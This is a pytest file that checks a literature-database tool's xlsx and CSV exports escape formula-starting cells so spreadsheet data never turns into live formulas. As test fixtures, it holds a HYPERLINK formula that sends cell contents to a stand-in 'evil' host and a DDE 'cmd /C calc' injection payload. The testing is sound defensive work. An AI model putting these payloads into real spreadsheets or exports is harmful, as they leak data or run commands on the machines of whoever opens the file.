"""No formula ever: data never become live spreadsheet formulas in xlsx or in CSV for people."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import Engine
from sqlmodel import select
from typer.testing import CliRunner

from kb.database import session_scope
from kb.models import WorkRow
from kb.update import UpdateRun
from queries.cli import app
from queries.render import excel_safe, render
from queries.update import write_digest

from kb_sample import build_sample_kb

EVIL = '=HYPERLINK("http://example.invalid/evil?x="&A1,"Click me")'
STARTS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\tcmd", "\rcmd"]


@pytest.mark.parametrize("text", STARTS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_each_formula_start_gets_an_apostrophe(text: str) -> None:
    assert excel_safe(text) == "'" + text
    assert excel_safe("Baclofen " + text) == "Baclofen " + text


def test_xlsx_cells_from_data_are_text_never_formulas() -> None:
    rows = [{"title": EVIL, "n": 12, "year": 2020}, {"title": "+cmd|' /C calc'!A0", "n": None}]
    book = render(rows, ["title", "n", "year"], "xlsx", "t")
    assert isinstance(book, bytes)
    sheet_xml = zipfile.ZipFile(io.BytesIO(book)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(book)).active
    assert sheet is not None
    assert sheet["A2"].value == EVIL and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == 12 and sheet["B2"].data_type == "n"


def test_table_csv_is_excel_safe_by_default_and_raw_on_request() -> None:
    rows = [{"title": EVIL, "n": -3}]
    safe = list(csv.reader(io.StringIO(str(render(rows, ["title", "n"], "csv")))))
    raw = list(csv.reader(io.StringIO(str(render(rows, ["title", "n"], "csv", raw=True)))))
    assert safe[1] == ["'" + EVIL, "-3"]  # numbers stay numbers
    assert raw[1] == [EVIL, "-3"]


@pytest.fixture
def evil_kb(engine: Engine, tmp_path: Path) -> tuple[Engine, int]:
    build_sample_kb(engine, tmp_path)
    with session_scope(engine) as session:
        work = session.exec(select(WorkRow).order_by(WorkRow.id)).first()  # type: ignore[arg-type]
        assert work is not None and work.id is not None
        work.title = EVIL
        session.add(work)
        work_id = work.id
    return engine, work_id


def test_the_digest_new_csv_is_excel_safe(evil_kb: tuple[Engine, int], tmp_path: Path) -> None:
    engine, work_id = evil_kb
    run = UpdateRun(run_id=1, started_at=datetime.now(UTC), previous=None)
    files = write_digest(engine, run, tmp_path / "digest", [work_id], [])
    with open(files["csv"], encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["title"] == "'" + EVIL
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())


def test_itb_dedupe_csv_outputs_are_excel_safe_unless_raw(tmp_path: Path) -> None:
    ris = tmp_path / "evil.ris"
    ris.write_text(
        f"TY  - JOUR\r\nID  - =1+1\r\nTI  - {EVIL}\r\nAU  - -Smith, J\r\nPY  - 2020\r\n"
        "JO  - Spine\r\nER  - \r\n",
        encoding="utf-8",
    )
    merged, groups = tmp_path / "merged.csv", tmp_path / "groups.csv"
    runner = CliRunner()
    result = runner.invoke(app, ["dedupe", str(ris), "-o", str(merged), "--groups", str(groups)])
    assert result.exit_code == 0, result.output
    for path in (merged, groups):
        with path.open(encoding="utf-8") as handle:
            cells = [v for row in csv.reader(handle) for v in row]
        assert not any(v.startswith(("=", "+", "-", "@")) for v in cells), (path, cells)
        if path == merged:
            assert "'" + EVIL in cells and "'-Smith, J" in cells
    result = runner.invoke(app, ["dedupe", str(ris), "-o", str(merged), "--raw"])
    assert result.exit_code == 0
    with merged.open(encoding="utf-8") as handle:
        assert next(csv.DictReader(handle))["title"] == EVIL


def test_export_csv_with_excel_safe_covers_all_six_characters(
    evil_kb: tuple[Engine, int],
) -> None:
    from kb.query import load_views
    from queries.citation_formats import ExportOptions, to_csv

    engine, work_id = evil_kb
    with session_scope(engine) as session:
        (view,) = load_views(session, [work_id])
    for start in STARTS:
        view.title = start + " title"
        for safe in (True, False):
            text = to_csv([view], ExportOptions(excel_safe=safe)).text
            (row,) = csv.DictReader(io.StringIO(text.lstrip("\ufeff"), newline=""))
            title = row["title"]
            if start[0] in "\t\r":  # the writer trims both: a cell can never start with them
                assert not title.startswith(("\t", "\r")) and title.endswith("cmd title")
            else:
                assert title == ("'" if safe else "") + start + " title"
